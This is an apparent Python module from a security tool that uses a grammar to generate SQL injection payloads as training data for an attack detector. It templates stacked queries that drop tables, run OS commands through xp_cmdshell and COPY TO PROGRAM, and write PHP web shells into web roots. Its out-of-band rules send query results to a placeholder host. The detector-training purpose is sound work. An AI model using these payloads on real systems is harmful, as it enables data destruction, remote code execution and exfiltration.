"""SQL injection that appends statements, writes files, runs commands or calls out."""

from __future__ import annotations

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.sqli_base import POSTS, SQL
from securitai.train.corpora.attacks.style import keyword_case, sometimes_percent
from securitai.train.corpora.kinds import COOKIE, VALUE, AttackKind
from securitai.verdict import Category

_G = Grammar(
    r"""
stmt:
  2×DROP TABLE ‹table›
  DROP ‹DATABASE¦VIEW¦INDEX¦USER¦SCHEMA¦FUNCTION› ‹syl›
  TRUNCATE TABLE ‹table›
  DELETE FROM ‹table› ‹?where›
  INSERT INTO ‹table› (‹col›,‹col›) VALUES ('‹user›','‹rnd›')
  INSERT INTO ‹table› VALUES (‹n›,'‹user›','‹rnd›',‹d1›)
  UPDATE ‹table› SET ‹col›='‹rnd›' ‹?where›
  SELECT * FROM ‹table›
  ‹scalar›
  shutdown
  SHUTDOWN WITH NOWAIT
  EXEC xp_cmdshell '‹wcmd›'
  EXEC master..xp_cmdshell '‹wcmd›'
  exec master.dbo.xp_cmdshell '‹wcmd›'
  EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE
  exec master..xp_‹dirtree¦fileexist¦subdirs¦getfiledetails› '\\‹host›\‹az›'
  exec xp_regread 'HKEY_LOCAL_MACHINE','‹az›','‹az›'
  exec sp_makewebtask 'c:\inetpub\wwwroot\‹rnd›.html','‹scalar›'
  EXEC sp_addlogin '‹syl›','‹rnd›'
  EXEC sp_addsrvrolemember '‹syl›','sysadmin'
  exec sp_oacreate 'wscript.shell',@‹c› out
  EXEC sp_MSForEachTable 'DROP TABLE ?'
  exec sp_executesql N'‹scalar›'
  declare @‹x=c› varchar(‹#99-8000›);set @‹$x›=0x‹hexrun›;exec(@‹$x›)
  DECLARE @‹x=c› varchar(8000);SET @‹$x›=cast(0x‹hexrun› as varchar(max));exec(@‹$x›)
  DECLARE @host varchar(1024);SELECT @host=(‹scalar›)+'.‹host›';EXEC('master..xp_dirtree "\\'+@host+'\‹az4›"')
  declare @# int;shutdown;set @# = '‹n›
  COPY ‹syl› FROM PROGRAM '‹ucmd›'
  COPY (SELECT '‹az›') TO PROGRAM '‹ucmd›'
  COPY ‹syl› FROM '‹u_file›'
  CREATE TABLE ‹syl›(‹c› text);COPY ‹syl› FROM PROGRAM '‹ucmd›'
  CREATE OR REPLACE FUNCTION ‹system¦sleep¦sys_eval›(‹cstring¦int›) RETURNS int AS '/lib/‹libc.so.6¦x86_64-linux-gnu/libc.so.6›','‹system¦sleep›' LANGUAGE 'C' STRICT;SELECT system('‹ucmd›')
  create function sys_exec returns int soname '‹az›.so'
  CREATE TABLE ‹syl› (data varchar(100));INSERT INTO ‹syl› SELECT '‹az›'
  CREATE USER ‹syl› IDENTIFIED BY '‹rnd›'
  GRANT ‹ALL PRIVILEGES ON *.* TO ¦DBA TO ¦CONNECT TO ¦superuser to ›'‹syl›'@'%'
  ALTER TABLE ‹table› DROP COLUMN ‹col›
  ALTER USER ‹syl› WITH PASSWORD '‹rnd›'
  ATTACH DATABASE '/var/www/‹rnd›.php' AS ‹az›;CREATE TABLE ‹az›.p (d text);INSERT INTO ‹az›.p VALUES ('<?php system($_GET[‹c›]);?>')
  SELECT lo_import('‹u_file›')
  SELECT load_extension('\\‹host›\‹az›.dll','DllMain')
  SELECT dblink_connect('host=‹host› user=‹az› dbname=‹az›')
  SELECT pg_terminate_backend(‹n›)
  BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'‹az›',job_type=>'EXECUTABLE',job_action=>'/bin/sh',enabled=>TRUE); END
  BEGIN EXECUTE IMMEDIATE '‹scalar›';END
  CALL SYS.SYSCS_UTIL.SYSCS_EXPORT_TABLE(null,'‹table›','/tmp/‹az›',null,null,null)
  CREATE ALIAS ‹az› AS 'String e(String c) throws Exception {return new String(Runtime.getRuntime().exec(c).getInputStream().readAllBytes());}';CALL ‹az›('‹ucmd›')
  SCRIPT TO '/tmp/‹rnd›.sql'
  handler ‹table› open;handler ‹table› read first
  prepare ‹c› from 0x‹hexrun›;execute ‹c›
  SET @‹x=c›=0x‹hexrun›;PREPARE ‹c› FROM @‹$x›;EXECUTE ‹c›
  SET GLOBAL general_log_file='/var/www/html/‹rnd›.php'
  SELECT '<?php eval($_POST[‹c›]);?>' INTO OUTFILE '/var/www/html/‹rnd›.php'
  load data ‹local ¦›infile '‹u_file›' into table ‹syl›
  RENAME TABLE ‹table› TO ‹syl›
  LOCK TABLES ‹table› WRITE
  KILL ‹n›
  commit
  ROLLBACK
  MERGE INTO ‹table› using (select 1) on (1=1) when matched then update set ‹col›='‹rnd›'
  select sys_exec('‹ucmd›')
  SELECT * FROM system.users
  begin shutdown end
  goto ‹az› select 1 ‹az›: ‹scalar›
  EXECUTE BLOCK AS BEGIN END
  do $$ begin perform pg_sleep(‹d1›); end $$
  ; WAITFOR DELAY '0:0:‹d1›'
where:
  WHERE ‹col›='‹user›'
  where ‹cond›
  where '1'='1
stacked:
  8×‹out›;‹s›‹stmt›;‹s›‹cm›
  4×‹out›;‹s›‹stmt›‹cm›
  2×‹out›);‹stmt›‹cm›
  ‹out› ‹stmt›‹cm›
  ‹out›;‹stmt›;‹stmt›‹cm›
  ;‹s›‹stmt›‹cm›
  ‹stmt›;
  ‹outq›;if ‹cond› ‹stmt›‹cm›
  ‹outq›) ‹stmt› ‹cm›
  ‹outq›;‹stmt›;SELECT '‹az›
second:
  ‹pre›',‹col›='‹rnd›',‹col›=‹fn› where ‹cond›‹cm›
  ‹pre›','‹user›',(‹scalar›))‹cm›
  ‹pre›'),('‹user›',(‹scalar›),'‹az›')‹cm›
  ‹pre›', (‹scalar›), '‹az›')‹cm›
  ‹pre›',‹n›,‹n›,(‹scalar›))‹cm›
  ‹pre›' where ‹col›='‹user›'‹cm›
  ‹pre›' on duplicate key update ‹col›='‹rnd›'‹cm›
  ‹pre›'||(‹scalar›)||'
  ‹pre›'+(‹scalar›)+'
  ‹pre›' into outfile '‹u_file›'‹cm›
  ‹pre›' into outfile '/var/www/html/‹rnd›.php' lines terminated by 0x‹hexrun›‹cm›
  ‹n› into outfile '/tmp/‹rnd›'
  ‹n› INTO DUMPFILE '/usr/lib/mysql/plugin/‹az›.so'‹cm›
  ‹n›; ‹scalar› into outfile 'c:/‹rnd›.txt'
  ‹col›=‹rnd›'‹s›‹op›‹s›‹cond›
  ‹pre›',msg=@`'`,msg=(‹scalar›),email='
  ‹syl›` where ‹cond› union select ‹n›,‹fn›‹cm›
  ‹syl›`;‹stmt›‹cm›
  ‹syl›] ‹op› ‹cond›‹cm›
  ‹col›`=‹n› ‹op› ‹cond›‹cm›
out_of_band:
  ‹out› ‹op› ‹n›=utl_http.request('http://'||(‹scalar›)||'.‹host›/')‹end›
  ‹outq›||utl_http.request('http://‹host›/'||‹fn›)||'
  ‹out› and (select httpuritype('http://‹host›/'||(‹scalar›)).getclob() from dual) is not null‹cm›
  ‹out› union select extractvalue(xmltype('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE root [ <!ENTITY % ‹az› SYSTEM "http://‹host›/">%‹az›;]>'),'/l') from dual‹cm›
  ‹outq›||(SELECT UTL_INADDR.GET_HOST_ADDRESS((‹scalar›)||'.‹host›') FROM dual)||'
  ‹outq›||DBMS_LDAP.INIT((‹scalar›)||'.‹host›',80)||'
  ‹out› and load_file(concat('\\\\',(‹scalar›),'.‹host›\\‹az›'))‹cm›
  ‹out› union select load_file(concat(0x5c5c5c5c,‹fn›,0x2e‹hextext›,0x5c5c‹hextext›))‹cm›
  ‹out›;exec master..xp_dirtree '//‹host›/‹az›'‹cm›
  ‹out›;declare @q varchar(99);set @q='\\‹host›\‹az4›'; exec master.dbo.xp_dirtree @q;‹cm›
  ‹out›; use master; exec xp_dirtree '\\‹host›\SHARE';‹cm›
  t'exec master..xp_cmdshell 'nslookup ‹host›'--
  ‹out›; exec master..xp_cmdshell 'ping ‹host›'‹cm›
  ‹out›;copy (select '') to program 'nslookup ‹host›'‹cm›
  ‹out›;create extension dblink;select dblink_connect('host='||(‹scalar›)||'.‹host› user=a password=a')‹cm›
  ‹out› into outfile '\\\\‹host›\\‹az›'‹cm›
  ‹out›;select * from openrowset('sqloledb','server=‹host›;uid=sa;pwd=‹rnd›','‹scalar›')‹cm›
  ‹out› or exists(select 1 from fn_trace_gettable('\\'+(‹scalar›)+'.‹host›\1.trc',default))‹cm›
  ‹out› and exists(select * from fn_xe_file_target_read_file('C:\*.xel','\\'%2b(‹scalar›)%2b'.‹host›\1.xem',null,null))‹cm›
  ‹out›+(select url('http://‹host›/?'||‹fn›,CSV,'‹c› String'))
  ‹outq› union select 1 from url('http://‹host›/‹az›','CSV','‹c› String')‹cm›
graphql:
  {"query":"query { ‹syl›(id:\"‹n›' ‹op› ‹cond›‹cm›\") { id name } }"}
  ‹syl›(filter: {‹az›: "‹pre›' union select ‹n›,‹fn›‹cm›"}) { id }
""",
    SQL,
)
_SOME = (VALUE, COOKIE)
KINDS = (
    AttackKind("sqli.stacked", Category.SQLI, _G.maker("stacked", *POSTS), 4.0, _SOME),
    AttackKind("sqli.inner", Category.SQLI, _G.maker("second", *POSTS), 2.0, _SOME),
    AttackKind(
        "sqli.oob",
        Category.SQLI,
        _G.maker("out_of_band", keyword_case, sometimes_percent),
        1.5,
        _SOME,
    ),
    AttackKind("sqli.graphql", Category.SQLI, _G.maker("graphql"), 0.3),
)
